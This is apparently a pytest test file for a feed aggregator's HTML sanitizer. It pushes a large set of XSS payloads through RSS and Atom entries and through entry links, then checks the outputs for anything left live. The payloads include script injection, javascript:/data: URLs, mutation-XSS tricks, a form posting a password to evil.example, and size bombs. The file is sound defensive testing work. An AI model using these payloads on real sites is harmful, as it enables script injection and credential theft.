"""
Hostile HTML in entry content (RELIABILITY section 8, rows H01-H05): every
XSS vector goes into an RSS description, an RSS content:encoded and an Atom
content type="html", is fetched by `aggregator --once`, and both outputs
that reach a reader are inspected with a parser, never by substring alone:
the text/html part of the delivered message and the content of the merged
Atom feed.  The inspection removes comments the way an HTML5 browser ends
them (at "-->", "--!>", or at once for "<!-->" and "<!--->") before
html.parser looks for live elements, event handlers and dangerous URLs.
The sanitizer must also be a fixed point: cleaning its own output changes
nothing.  A vector that still gets through is a known bug, marked
xfail(strict=True) with the surviving output in the reason.
"""

import html
import html.parser
import json
import re
import xml.etree.ElementTree as ET

import pytest

from conftest import Work, rss_limit_kb, run_process
from feedserver import FeedServer

ATOM = "{http://www.w3.org/2005/Atom}"
SAFE = "<p>safe text</p>"

# id -> (row, payload).  Each payload carries SAFE, which must survive.
VECTORS = {
    # H01: scripts, event handlers, dangerous URL schemes.
    "script": ("H01", SAFE + '<script>alert("script-body")</script>'
               '<script src="http://evil.example/x.js"></script>'),
    "img_onerror": ("H01", SAFE + '<img src="x" onerror="alert(1)" '
                    'onload=alert(2) ONMOUSEOVER="alert(3)">'),
    "a_javascript": ("H01", SAFE + '<a href="javascript:alert(1)">j</a>'),
    "a_tab_entity": ("H01", SAFE + '<a href="jav&#x09;ascript:alert(1)">t</a>'
                     '<a href="jav&#9;ascript:alert(1)">t</a>'
                     '<a href="jav\tascript:alert(1)">t</a>'),
    "a_colon_entity": ("H01", SAFE + '<a href="javascript&#58;alert(1)">c</a>'
                       '<a href="&#106;avascript:alert(1)">c</a>'
                       '<a href="javascript&colon;alert(1)">c</a>'),
    "a_mixed_case": ("H01", SAFE + '<a href="JaVaScRiPt:alert(1)">m</a>'),
    "a_control_chars": ("H01", SAFE + '<a href="&#x01;javascript:alert(1)">c</a>'
                        '<a href=" &#14;  javascript:alert(1)">c</a>'
                        '<a href="\n javascript:alert(1)">c</a>'),
    "data_url": ("H01", SAFE + '<a href="data:text/html;base64,'
                 'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>'
                 '<img src="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">'),
    "vbscript": ("H01", SAFE + '<a href="vbscript:msgbox(1)">v</a>'
                 '<img src="VBScript:msgbox(1)">'),
    "style_attr": ("H01", SAFE + '<div style="background:url(javascript:alert(1))">s</div>'),
    "legacy_url_attrs": ("H01", SAFE + '<table background="javascript:alert(1)"><tr>'
                         '<td background="javascript:alert(2)">x</td></tr></table>'
                         '<img src="http://ok.example/i.png" lowsrc="javascript:alert(3)" '
                         'dynsrc="javascript:alert(4)">'),
    # H02: elements outside the allow-list.
    "svg_script": ("H02", SAFE + '<svg><script>alert(1)</script>'
                   '<a xlink:href="javascript:alert(2)"><text>x</text></a></svg>'),
    "math": ("H02", SAFE + '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'
             '</style></mglyph></table></mtext><maction actiontype="statusline" '
             'xlink:href="javascript:alert(2)">m</maction></math>'),
    "style_import": ("H02", SAFE + '<style>@import "http://evil.example/x.css"; '
                     'body{background:url(javascript:alert(1))}</style>'),
    "iframe_srcdoc": ("H02", SAFE + '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;" '
                      'src="javascript:alert(2)"></iframe>'),
    "object": ("H02", SAFE + '<object data="javascript:alert(1)" type="text/html">'
               '<param name="x" value="y"></object>'),
    "embed": ("H02", SAFE + '<embed src="javascript:alert(1)">'),
    "base_href": ("H02", SAFE + '<base href="javascript:alert(1)//"><a href="x">rel</a>'),
    "meta_refresh": ("H02", SAFE + '<meta http-equiv="refresh" '
                     'content="0;url=javascript:alert(1)">'),
    "form_action": ("H02", SAFE + '<form action="javascript:alert(1)"><input type="submit">'
                    '</form><form action="http://evil.example/steal" method="post">'
                    '<input name="pw"></form>'),
    # H03: mutation XSS, parser differentials.
    "noscript_title": ("H03", SAFE + '<noscript><p title="</noscript>'
                       '<img src=x onerror=alert(1)>"></noscript>'),
    "table_form": ("H03", SAFE + '<table><form><tr><td><form action="javascript:alert(1)">'
                   '<input></form></td></tr></form></table>'),
    "style_in_attr": ("H03", SAFE + '<svg></p><style><a id="</style>'
                      '<img src=1 onerror=alert(1)>">'),
    "textarea_title": ("H03", SAFE + '<title><img src=x onerror=alert(1)></title>'
                       '<textarea><img src=x onerror=alert(2)></textarea>'),
    "split_tag": ("H03", SAFE + '<scr<script>ipt>alert(1)</script>'
                  '<im<iframe>g src=x onerror=alert(2)>'),
    "lt_before_dropped": ("H03", SAFE + '<<iframe>img src=x onerror=alert(1)>'),
    "lt_before_script": ("H03", SAFE + '<<script>x</script>img src=x onerror=alert(1)>'),
    "comment_bang": ("H03", SAFE + '<!-- --!><img src=x onerror=alert(1)> -->'),
    "comment_abrupt": ("H03", SAFE + '<!--><img src=x onerror=alert(1)>-->'),
    "comment_abrupt_dash": ("H03", SAFE + '<!---><img src=x onerror=alert(1)>-->'),
    "attr_quirks": ("H03", SAFE + '<a title="a"onmouseover="alert(1)">x</a>'
                    '<img/src=x/onerror=alert(1)><img src="x` `<script>alert(1)</script>"` `>'),
    # H04: markup that must not break the XML around it.
    "escaping": ("H04", SAFE + '<p>x ]]> y &amp; z AT&T &lt;/content&gt;</p></content>'
                 '<p>tail</p>'),
}

# The plain-text Atom content of H04: shown as text, never interpreted.
PLAIN = '<b>bold</b> & ]]> </content> <script>alert(1)</script>'

# Vectors that still get through, per check, with the surviving output
# (none: <form> and its controls were the last, now dropped).
XFAIL_DELIVERY = {}
XFAIL_BASELESS = {}
XFAIL_FIXPOINT = {}

# Vectors whose dropped element must take its text with it.
CONTENT_REMOVED = ("script", "style_import", "svg_script")

CONTAINERS = ("rss-description", "rss-encoded", "atom-html")

FORBIDDEN_ELEMENTS = {"script", "style", "iframe", "frame", "frameset", "object",
                      "embed", "applet", "base", "meta", "link", "form", "svg",
                      "math"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "background", "lowsrc",
                  "dynsrc", "poster", "longdesc", "cite", "data", "codebase",
                  "xlink:href", "srcset", "usemap", "ping"}
SAFE_SCHEMES = {"http", "https", "mailto"}
C0_OR_SPACE = "".join(chr(c) for c in range(0x21))


def html5_decomment(s):
    """Drops comments where an HTML5 tokenizer ends them, so that what
    html.parser sees afterwards is what a browser renders live."""
    out, i = [], 0
    while True:
        j = s.find("<!--", i)
        if j < 0:
            out.append(s[i:])
            return "".join(out)
        out.append(s[i:j])
        k = j + 4
        if s.startswith(">", k):
            i = k + 1
            continue
        if s.startswith("->", k):
            i = k + 2
            continue
        ends = [e for e in (s.find("-->", k), s.find("--!>", k)) if e >= 0]
        if not ends:
            return "".join(out)
        e = min(ends)
        i = e + (3 if s.startswith("-->", e) else 4)


class Inspector(html.parser.HTMLParser):
    """Collects the live elements, their attributes and the text."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = []
        self.text = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_data(self, data):
        self.text.append(data)


def inspect(markup):
    p = Inspector()
    p.feed(html5_decomment(markup))
    p.close()
    return p


def url_scheme(value):
    """The scheme a browser would see: leading C0 and space stripped, tab
    and newline removed anywhere."""
    v = re.sub(r"[\t\n\r]", "", value.lstrip(C0_OR_SPACE))
    m = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", v)
    return m.group(1).lower() if m else None


def problems(markup):
    """Everything dangerous that is live in markup, as readable strings."""
    found = []
    for tag, attrs in inspect(markup).tags:
        if tag in FORBIDDEN_ELEMENTS:
            found.append("element <%s>" % tag)
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                found.append("<%s %s=%r>" % (tag, name, value))
            elif name == "srcdoc":
                found.append("<%s srcdoc>" % tag)
            elif name == "style" and re.search(r"url\(|expression|javascript:|@import",
                                               value, re.I):
                found.append("<%s style=%r>" % (tag, value))
            elif name in URL_ATTRIBUTES:
                scheme = url_scheme(value)
                if scheme is not None and scheme not in SAFE_SCHEMES:
                    found.append("<%s %s=%r>" % (tag, name, value))
    return found


def text_of(markup):
    return "".join(inspect(markup).text)


def cdata(s):
    return "<![CDATA[%s]]>" % s.replace("]]>", "]]]]><![CDATA[>")


def esc(s):
    return html.escape(s, quote=False)


def title(vid, container):
    return "%s %s" % (vid, container)


def link(vid, container):
    return "https://sanitize.example/%s/%s" % (container, vid)


def rss_doc(container, payloads):
    items = []
    for vid, payload in payloads.items():
        if container == "rss-description":
            body = "<description>%s</description>" % esc(payload)
        else:
            body = ("<description>summary only</description>"
                    "<content:encoded>%s</content:encoded>" % cdata(payload))
        items.append("<item><title>%s</title><link>%s</link><guid>%s</guid>"
                     "<pubDate>Sat, 01 Nov 2025 10:00:00 +0000</pubDate>%s</item>"
                     % (title(vid, container), link(vid, container),
                        link(vid, container), body))
    return ('<?xml version="1.0" encoding="UTF-8"?>\n'
            '<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/">'
            "<channel><title>Sanitize %s</title><link>https://sanitize.example/</link>"
            "<description>hostile HTML</description>%s</channel></rss>\n"
            % (container, "\n".join(items)))


def atom_doc(payloads, plain):
    entries = []
    for vid, payload in payloads.items():
        entries.append('<entry><title>%s</title><id>%s</id><link href="%s"/>'
                       "<updated>2025-11-01T10:00:00Z</updated>"
                       '<content type="html">%s</content></entry>'
                       % (title(vid, "atom-html"), link(vid, "atom-html"),
                          link(vid, "atom-html"), esc(payload)))
    entries.append('<entry><title>plain atom-text</title><id>%s</id><link href="%s"/>'
                   "<updated>2025-11-01T10:00:00Z</updated>"
                   '<content type="text">%s</content></entry>'
                   % (link("plain", "atom-text"), link("plain", "atom-text"), esc(plain)))
    return ('<?xml version="1.0" encoding="UTF-8"?>\n'
            '<feed xmlns="http://www.w3.org/2005/Atom"><title>Sanitize atom</title>'
            "<id>urn:sanitize:atom</id><updated>2025-11-01T10:00:00Z</updated>%s</feed>\n"
            % "\n".join(entries))


class Outputs:
    """One --once run over all vectors: message HTML and merged content by title."""

    def __init__(self, work, res):
        self.work = work
        self.res = res
        self.messages = {}
        for m in work.messages():
            part = m.html()
            body = part.get_content() if part is not None else ""
            self.messages[str(m["Subject"])] = body[body.find("<body"):]
        self.merged_raw = work.output.read_bytes()
        self.merged = {}
        self.merged_type = {}
        for e in ET.fromstring(self.merged_raw).iter(ATOM + "entry"):
            t = e.findtext(ATOM + "title")
            c = e.find(ATOM + "content")
            if c is None:
                c = e.find(ATOM + "summary")
            self.merged[t] = (c.text or "") if c is not None else None
            self.merged_type[t] = c.get("type") if c is not None else None

    def both(self, key):
        assert key in self.messages, (key, sorted(self.messages))
        assert self.merged.get(key) is not None, (key, sorted(self.merged))
        return [("message", self.messages[key]), ("merged", self.merged[key])]


@pytest.fixture(scope="module")
def outputs(tmp_path_factory, binary):
    srv = FeedServer()
    try:
        srv.set("/rss.xml", rss_doc("rss-description", dict(
            (k, v[1]) for k, v in VECTORS.items())), content_type="application/rss+xml")
        srv.set("/encoded.xml", rss_doc("rss-encoded", dict(
            (k, v[1]) for k, v in VECTORS.items())), content_type="application/rss+xml")
        srv.set("/atom.xml", atom_doc(dict((k, v[1]) for k, v in VECTORS.items()), PLAIN),
                content_type="application/atom+xml")
        work = Work(tmp_path_factory.mktemp("sanitize"), binary)
        work.write_config({"rss": srv.url("/rss.xml"), "encoded": srv.url("/encoded.xml"),
                           "atom": srv.url("/atom.xml")}, max_entries=1000)
        res = work.once(timeout=15)
        assert res.rc == 0, res
        yield Outputs(work, res)
    finally:
        srv.close()


def test_every_entry_delivered_and_merged(outputs):
    want = {title(v, c) for v in VECTORS for c in CONTAINERS} | {"plain atom-text"}
    assert set(outputs.messages) == want, outputs.res
    assert set(outputs.merged) == want


def test_merged_well_formed(outputs):
    """H04: the merged feed stays well-formed XML whatever the content held."""
    res = run_process(["xmllint", "--noout", "--nonet", str(outputs.work.output)])
    assert res.rc == 0, res
    ET.fromstring(outputs.merged_raw)
    assert all(t == "html" for t in outputs.merged_type.values()), outputs.merged_type


def delivery_params():
    out = []
    for vid, (row, _) in VECTORS.items():
        for c in CONTAINERS:
            marks = []
            if vid in XFAIL_DELIVERY:
                marks.append(pytest.mark.xfail(reason=XFAIL_DELIVERY[vid], strict=True))
            out.append(pytest.param(vid, c, id="%s-%s-%s" % (row, vid, c), marks=marks))
    return out


@pytest.mark.parametrize("vid,container", delivery_params())
def test_vector_neutralised(outputs, vid, container):
    """H01-H04: nothing dangerous is live in either output, the benign part
    survives, and script bodies are removed with their tags."""
    for where, markup in outputs.both(title(vid, container)):
        assert problems(markup) == [], (where, markup)
        text = text_of(markup)
        assert "safe text" in text, (where, markup)
        if vid in CONTENT_REMOVED:
            assert "alert(" not in text and "@import" not in text, (where, markup)


def test_escaping_text_kept(outputs):
    """H04: ]]>, & and a literal </content> come through as text."""
    for c in CONTAINERS:
        for where, markup in outputs.both(title("escaping", c)):
            text = text_of(markup)
            assert "x ]]> y & z AT&T </content>" in text, (c, where, markup)
            assert "tail" in text, (c, where, markup)


def test_plain_text_escaped(outputs):
    """H04: text/plain content with markup is shown, not interpreted."""
    for where, markup in outputs.both("plain atom-text"):
        body = inspect(markup)
        live = [t for t, _ in body.tags if t in ("b", "script")]
        assert live == [], (where, markup)
        assert PLAIN in "".join(body.text), (where, markup)


def parse_summaries(binary, path):
    res = run_process([binary, "parse", str(path)], timeout=10)
    assert res.rc == 0, res
    return {e["title"]: e.get("summary", "") for e in json.loads(res.stdout)["entries"]}


@pytest.fixture(scope="module")
def fixpoint(tmp_path_factory, binary):
    # No base URL: relative resolution ("" becomes the base) is not part
    # of the property, only the cleaning is.
    d = tmp_path_factory.mktemp("fixpoint")
    first_path = d / "first.xml"
    first_path.write_text(rss_doc("rss-description", dict(
        (k, v[1]) for k, v in VECTORS.items())), encoding="utf-8")
    first = parse_summaries(binary, first_path)
    second_path = d / "second.xml"
    second_path.write_text(rss_doc("rss-description", dict(
        (k, first[title(k, "rss-description")]) for k in VECTORS)), encoding="utf-8")
    second = parse_summaries(binary, second_path)
    return first, second


def fixpoint_params():
    return [pytest.param(vid, id="%s-%s" % (row, vid),
                         marks=[pytest.mark.xfail(reason=XFAIL_FIXPOINT[vid], strict=True)]
                         if vid in XFAIL_FIXPOINT else [])
            for vid, (row, _) in VECTORS.items()]


@pytest.mark.parametrize("vid", fixpoint_params())
def test_sanitize_fixed_point(fixpoint, vid):
    """H03: sanitize(sanitize(x)) == sanitize(x)."""
    first, second = fixpoint
    key = title(vid, "rss-description")
    assert SAFE in first[key], first[key]
    assert second[key] == first[key]


def baseless_params():
    out = []
    for vid, (row, _) in VECTORS.items():
        reason = XFAIL_BASELESS.get(vid) or XFAIL_DELIVERY.get(vid)
        out.append(pytest.param(vid, id="%s-%s" % (row, vid), marks=[
            pytest.mark.xfail(reason=reason, strict=True)] if reason else []))
    return out


@pytest.mark.parametrize("vid", baseless_params())
def test_parse_output_safe_without_base(fixpoint, vid):
    """H01-H03 for `aggregator parse` without a base URL: nothing may rely
    on relative resolution to defuse a URL."""
    first, _ = fixpoint
    markup = first[title(vid, "rss-description")]
    assert problems(markup) == [], markup


# H05: size bombs. Generators give the payload; limits are per run.
LIMIT_SECONDS = 5.0
LIMIT_RSS_KB = rss_limit_kb(200)


def nested_divs():
    n = 100000
    return SAFE + "<div>" * n + "deep" + "</div>" * n


def attributes_one_element():
    attrs = " ".join('a%d="%s"' % (i, "v" * 40) for i in range(200000))
    return SAFE + '<img src="x" %s onerror="alert(1)">' % attrs


def attributes_many_elements():
    one = '<img src="x" title="%s" onerror="alert(1)">' % ("v" * 1000)
    return SAFE + one * 10000


BOMBS = [
    pytest.param(nested_divs, id="H05-nested-divs-100000"),
    pytest.param(attributes_many_elements, id="H05-10MB-attributes-10000-elements"),
    pytest.param(attributes_one_element, id="H05-10MB-attributes-one-element"),
]


@pytest.mark.parametrize("gen", BOMBS)
def test_bounds(server, work, gen):
    payload = gen()
    assert len(payload) >= 1000000
    server.set("/bomb.xml", rss_doc("rss-description", {"bomb": payload}),
               content_type="application/rss+xml")
    work.write_config({"bomb": server.url("/bomb.xml")})
    res = work.once(timeout=LIMIT_SECONDS + 1)
    assert not res.timed_out, res
    assert res.elapsed < LIMIT_SECONDS, res
    assert res.maxrss_kb < LIMIT_RSS_KB, res
    assert res.rc == 0, res
    assert run_process(["xmllint", "--noout", "--nonet", "--huge",
                        str(work.output)]).rc == 0
    out = Outputs(work, res)
    for where, markup in out.both(title("bomb", "rss-description")):
        assert problems(markup) == [], where
        assert "safe text" in text_of(markup), where


# --- entry links -------------------------------------------------------------

# Entry links (the item's own, not links in its content) as written in the
# feed's XML: name -> (RSS <link> text or Atom href, whether published).
# Only http(s) is published; a link that reads as javascript: only after
# a second decoding, or with its tab removed, is a relative path on the
# feed's host (as no scheme can hold a tab or "&"), published
# resolved there ("http://HOST/DIR/&", the rest is a fragment: the Atom
# feed is served from another folder, so that the two are two entries).
RSS_LINKS = {
    "js": ("javascript:alert(1)", False),
    "js-again": ("javascript:alert(1)", False),
    "js-case-space": ("  JaVaScRiPt:alert(2)", False),
    "js-control": ("&#10;&#9; javascript:alert(3)", False),
    "js-tab": ("java&#9;script:alert(3)", True),
    "vbscript": ("VBScript:msgbox(4)", False),
    "data": ("data:text/html;base64,PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg==", False),
    "data-upper": (" DATA:text/html,&lt;script&gt;alert(6)&lt;/script&gt;", False),
    "js-entity": ("&#106;avascript&#58;alert(7)", False),
    "js-hex-entity": ("&#x6A;&#x61;vascript:alert(8)", False),
    "js-double": ("&amp;#106;avascript&amp;#58;alert(9)", True),
    "rss-ok": ("https://links.example/ok", True),
}
ATOM_LINKS = {
    "atom-js": ("javascript:alert(10)", False),
    "atom-entity": ("&#x6A;avascript:alert(11)", False),
    "atom-double": ("&amp;#x6A;avascript:alert(12)", True),
    "atom-data": (" &#10;data:text/html,x", False),
    "atom-vb": ("VBSCRIPT:x", False),
    "atom-ok": ("HTTPS://links.example/ok2", True),
}
UNSAFE_TEXT = re.compile(r"(?i)(java|vb)\s*script\s*:|\bdata\s*:")


def links_rss():
    items = "".join(
        '<item><title>%s</title><link>%s</link><guid isPermaLink="false">guid-%s</guid>'
        "<description>&lt;p&gt;body of %s&lt;/p&gt;</description></item>\n"
        % (name, raw, name, name) for name, (raw, _) in RSS_LINKS.items())
    return ('<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0"><channel>'
            "<title>Links</title><link>https://links.example/</link>"
            "<description>entry links</description>%s</channel></rss>\n" % items)


def links_atom():
    entries = "".join(
        '<entry><title>%s</title><id>urn:links:%s</id><link href="%s"/>'
        "<updated>2025-11-01T10:00:00Z</updated><content type=\"html\">"
        "&lt;p&gt;body of %s&lt;/p&gt;</content></entry>\n"
        % (name, name, raw, name) for name, (raw, _) in ATOM_LINKS.items())
    return ('<?xml version="1.0" encoding="UTF-8"?>\n'
            '<feed xmlns="http://www.w3.org/2005/Atom"><title>Links atom</title>'
            "<id>urn:links</id><updated>2025-11-01T10:00:00Z</updated>%s</feed>\n" % entries)


def test_unsafe_entry_links_are_not_published(server, work):
    """javascript:, vbscript: and data: entry links (any case, leading white
    space, entity-encoded) reach neither X-RSS-URL, the mail's heading
    link, its text part nor the merged feed's <link>; such an entry is
    keyed as one without a link (two sharing a link are two entries)."""
    server.set("/links.xml", links_rss(), content_type="application/rss+xml")
    server.set("/a/links.atom", links_atom(), content_type="application/atom+xml")
    work.write_config({"rss": server.url("/links.xml"), "atom": server.url("/a/links.atom")})
    res = work.once()
    assert res.rc == 0, res
    want = dict(RSS_LINKS, **ATOM_LINKS)
    msgs = {str(m["Subject"]): m for m in work.messages()}
    assert set(msgs) == set(want), sorted(msgs)

    base = server.url("/")
    for name, (_, published) in want.items():
        m = msgs[name]
        url = m["X-RSS-URL"]
        html_part = m.html().get_content()
        text_part = m.msg.get_body(preferencelist=("plain",)).get_content()
        hrefs = [v for t, attrs in inspect(html_part).tags for k, v in attrs if k == "href"]
        if published:
            assert url is not None and url_scheme(str(url)) in ("http", "https"), (name, url)
            assert name.endswith("ok") or str(url).startswith(base), (name, url)
            assert hrefs == [str(url)], (name, hrefs)
            assert str(url) in text_part, (name, text_part)
        else:
            assert url is None, (name, url)
            assert hrefs == [], (name, html_part)
            assert not UNSAFE_TEXT.search(text_part), (name, text_part)

    merged = ET.fromstring(work.output.read_bytes())
    seen = set()
    for e in merged.iter(ATOM + "entry"):
        name = e.findtext(ATOM + "title")
        seen.add(name)
        # The mail's headers and body have white space as spaces.
        hrefs = [re.sub(r"\s", " ", l.get("href")) for l in e.findall(ATOM + "link")]
        if want[name][1]:
            assert hrefs == [str(msgs[name]["X-RSS-URL"])], (name, hrefs)
        else:
            assert hrefs == [], (name, hrefs)
    assert seen == set(want)

    # The keys hold: nothing is delivered again.
    res = work.once()
    assert res.rc == 0 and len(work.messages()) == len(want), res
